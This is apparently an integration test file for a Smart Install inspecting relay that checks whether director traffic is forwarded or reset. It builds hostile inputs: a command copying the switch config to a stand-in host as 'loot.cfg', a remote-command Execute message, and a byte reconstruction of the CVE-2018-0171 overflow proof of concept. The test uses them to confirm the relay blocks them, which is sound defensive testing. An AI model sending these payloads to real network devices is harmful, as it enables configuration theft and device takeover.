//! The inspecting Smart Install relay end to end on loopback: a fake switch behind a `ztpgate
//! serve` relay in fixed-upstream mode, driven by a plain `TcpStream` posing as the director.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc;
use std::time::Duration;

use common::Gateway;
use ztpgate::proto::vstack::{
    Body, CopyCommands, Execute, HEADER_LEN_BYTES, Message, Probe, ProbeReply,
};

/// A fake Smart Install client: records every message it receives and answers probes.
struct Switch {
    port: u16,
    received: mpsc::Receiver<Vec<u8>>,
}

impl Switch {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (tx, received) = mpsc::channel();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { break };
                let tx = tx.clone();
                std::thread::spawn(move || serve_switch(stream, &tx));
            }
        });
        Self { port, received }
    }

    /// The next message the switch received, if any within `wait`.
    fn next(&self, wait: Duration) -> Option<Vec<u8>> {
        self.received.recv_timeout(wait).ok()
    }
}

fn serve_switch(mut stream: TcpStream, tx: &mpsc::Sender<Vec<u8>>) {
    loop {
        let mut message = vec![0; HEADER_LEN_BYTES];
        if stream.read_exact(&mut message).is_err() {
            return;
        }
        let length = u32::from_be_bytes(message[12..16].try_into().unwrap()) as usize;
        let mut payload = vec![0; length];
        if stream.read_exact(&mut payload).is_err() {
            return;
        }
        message.extend(payload);
        let is_probe = message == encode(Body::Probe(Probe::HELLO));
        if tx.send(message).is_err() {
            return;
        }
        if is_probe {
            let _ = stream.write_all(&encode(Body::ProbeReply(ProbeReply::HELLO)));
        }
    }
}

fn encode(body: Body) -> Vec<u8> {
    Message::new(body).encode().unwrap()
}

fn copy(command: &str) -> Vec<u8> {
    encode(Body::CopyCommands(CopyCommands::new(&[command]).unwrap()))
}

/// The Embedi CVE-2018-0171 PoC (smart-install.md §3.8): 2288 bytes, header length 0xd8.
fn cve_poc() -> Vec<u8> {
    let mut bytes = Vec::new();
    for word in [1u32, 1, 7, 0xd8, 1, 0xd8] {
        bytes.extend_from_slice(&word.to_be_bytes());
    }
    bytes.extend([0x41; 36]);
    bytes.extend(0x8d8u32.to_be_bytes());
    bytes.extend([0x42; 176]);
    bytes.extend([0x44; 2048]);
    bytes
}

fn start_gateway(edit: impl FnOnce(String) -> String, switch: &Switch) -> (Gateway, String) {
    let extra = format!(
        "[smart_install_relay]\nlisten = [\"127.0.0.1:0\"]\nupstream = \"127.0.0.1:{}\"\n\
         idle_timeout = \"20s\"\n",
        switch.port
    );
    let mut gw = Gateway::start_with(edit, &extra);
    let line = gw.wait_for("Smart Install relay listening on tcp://");
    let addr = line
        .split("tcp://")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    (gw, addr)
}

fn connect(addr: &str) -> TcpStream {
    let stream = TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    stream
}

/// Sends `bytes` and expects the relay to reset the connection without forwarding anything.
fn expect_reset(addr: &str, switch: &Switch, bytes: &[u8]) {
    let mut stream = connect(addr);
    stream.write_all(bytes).unwrap();
    let mut buf = [0u8; 64];
    let err = stream
        .read(&mut buf)
        .expect_err("the relay must reset the connection");
    assert_eq!(err.kind(), ErrorKind::ConnectionReset, "{err}");
    assert_eq!(switch.next(Duration::from_millis(300)), None);
}

/// Every audit record with its detail.
fn audit_records(gw: &Gateway) -> Vec<serde_json::Value> {
    std::fs::read_to_string(gw.state().join("audit.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|r: &serde_json::Value| r["area"] == "smart_install")
        .collect()
}

#[test]
fn director_traffic_is_inspected_forwarded_or_reset() {
    let switch = Switch::start();
    let (gw, addr) = start_gateway(|lab| lab, &switch);

    let mut director = connect(&addr);
    let probe = encode(Body::Probe(Probe::HELLO));
    director.write_all(&probe).unwrap();
    let mut reply = [0u8; 24];
    director.read_exact(&mut reply).unwrap();
    assert_eq!(reply.to_vec(), encode(Body::ProbeReply(ProbeReply::HELLO)));
    assert_eq!(switch.next(Duration::from_secs(10)), Some(probe));

    let backup = copy("copy system:running-config tftp://127.0.0.1/sw1.cfg");
    // Sent in two pieces: the relay forwards the message once, whole.
    director.write_all(&backup[..500]).unwrap();
    director.flush().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    director.write_all(&backup[500..]).unwrap();
    assert_eq!(switch.next(Duration::from_secs(10)), Some(backup));
    drop(director);

    expect_reset(
        &addr,
        &switch,
        &copy("copy system:running-config tftp://192.0.2.99/loot.cfg"),
    );
    expect_reset(
        &addr,
        &switch,
        &encode(Body::Execute(
            Execute::new(b"tftp://127.0.0.1/cmds.txt").unwrap(),
        )),
    );
    expect_reset(&addr, &switch, &cve_poc());

    let records = audit_records(&gw);
    let summary: Vec<(&str, &str, &str)> = records
        .iter()
        .map(|r| {
            (
                r["verdict"].as_str().unwrap(),
                r["rule"].as_str().unwrap(),
                r["detail"]["kind"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            ("allow", "director-operations", "probe"),
            ("allow", "client-replies", "client-reply"),
            ("allow", "director-operations", "copy-commands"),
            ("deny", "url-host-allowlist", "copy-commands"),
            ("deny", "default-deny", "execute"),
            ("deny", "tlv-overrun", "init-discovery"),
        ],
        "{records:#?}"
    );
    assert!(records.iter().all(|r| r["actor"] == "127.0.0.1"));
    let loot = &records[3]["detail"];
    assert_eq!(loot["hosts"][0], "192.0.2.99");
    assert_eq!(loot["urls"][0], "tftp://192.0.2.99/loot.cfg");
    assert_eq!(
        loot["commands"][0],
        "copy system:running-config tftp://192.0.2.99/loot.cfg"
    );
    assert_eq!(loot["outcome"], "dropped");
    assert_eq!(records[4]["detail"]["urls"][0], "tftp://127.0.0.1/cmds.txt");
    let (ok, out) = gw.verify_audit();
    assert!(ok, "{out}");
}

#[test]
fn everything_is_denied_when_the_source_is_not_a_director() {
    let switch = Switch::start();
    let (gw, addr) = start_gateway(
        |lab| {
            lab.replace(
                r#"directors = ["127.0.0.1/32", "::1"]"#,
                r#"directors = ["192.0.2.1/32"]"#,
            )
        },
        &switch,
    );
    expect_reset(&addr, &switch, &encode(Body::Probe(Probe::HELLO)));
    expect_reset(
        &addr,
        &switch,
        &copy("copy system:running-config tftp://127.0.0.1/sw1.cfg"),
    );
    let records = audit_records(&gw);
    assert_eq!(records.len(), 2, "{records:#?}");
    for r in &records {
        assert_eq!(
            (r["verdict"].as_str(), r["rule"].as_str()),
            (Some("deny"), Some("default-deny"))
        );
        assert_eq!(r["actor"], "127.0.0.1");
    }
    assert_eq!(records[1]["detail"]["hosts"][0], "127.0.0.1");
}
